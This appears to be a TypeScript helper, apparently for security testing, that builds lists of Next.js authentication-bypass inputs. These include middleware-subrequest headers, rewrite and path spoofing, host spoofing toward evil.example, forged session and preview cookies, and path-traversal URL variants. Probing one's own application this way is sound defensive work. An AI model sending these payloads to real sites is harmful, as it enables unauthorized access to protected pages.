// How somebody may ask for a page who hopes that one way or other nobody asks who he is.

/** Headers by which Next is made to skip something, to answer in parts, or to take one page for another. */
export function oddHeaders(path: string): Record<string, string>[] {
	const names = ["middleware", "src/middleware", "proxy", "src/proxy"];
	return [
		...names
			.flatMap((name) => [name, Array(7).fill(name).join(":")])
			.map((name) => ({ "x-middleware-subrequest": name })),
		{ rsc: "1" },
		{ rsc: "1", "next-router-prefetch": "1" },
		{ rsc: "1", "next-router-prefetch": "2" },
		{ rsc: "1", "next-router-prefetch": "1", "next-router-segment-prefetch": "/_tree" },
		{ rsc: "1", "next-router-prefetch": "1", "next-router-segment-prefetch": "/_full" },
		{ rsc: "1", "next-router-state-tree": routerState(path) },
		{ rsc: "1", "next-url": path, "next-router-state-tree": routerState("/docs") },
		{ purpose: "prefetch", "sec-purpose": "prefetch" },
		{ "x-nextjs-data": "1" },
		{ "x-middleware-prefetch": "1", "x-nextjs-data": "1" },
		{ "x-middleware-rewrite": path, "x-middleware-next": "1" },
		{ "x-matched-path": path, "x-invoke-path": path, "x-invoke-status": "200", "x-now-route-matches": "1" },
		{ "x-original-url": path, "x-rewrite-url": path, "x-forwarded-uri": path },
		{ "x-lingpai-page": "//evil.example/" },
		{ "x-forwarded-for": "127.0.0.1", "x-forwarded-host": "evil.example", forwarded: "for=127.0.0.1" },
		{ cookie: "next-auth.session-token=x; __Secure-next-auth.session-token=x" },
		{ cookie: "__prerender_bypass=1; __next_preview_data=1" },
	];
}

/** Other spellings of a page's address. */
export function oddSpellings(path: string): string[] {
	return [
		`/${path}`,
		`${path}/`,
		path.replace(/\w/, (letter) => `%${letter.charCodeAt(0).toString(16)}`),
		`${path}?_rsc=abcde`,
		...[".rsc", ".json", ".txt", ".segments/_full.segment.rsc", ";x=1", "%00", "%2f"].map((end) => path + end),
		...["/_next/data/development", "/_next/..", "/docs/..", "/docs/%2e%2e", "/."].map((start) => start + path),
		...["/(admin)", "/en", "/api"].map((start) => start + path),
		`/docs/..%2f${path.slice(1)}`,
		path.toUpperCase(),
		`/_next/image?url=${encodeURIComponent(path)}&w=64&q=75`,
	];
}

// A browser that has the layout already asks for the page alone.
function routerState(path: string): string {
	const page = { children: ["__PAGE__", {}] };
	const tree = ["", { children: ["(admin)", { children: [path.slice(1), page] }] }, null, "refetch"];
	return encodeURIComponent(JSON.stringify(tree));
}
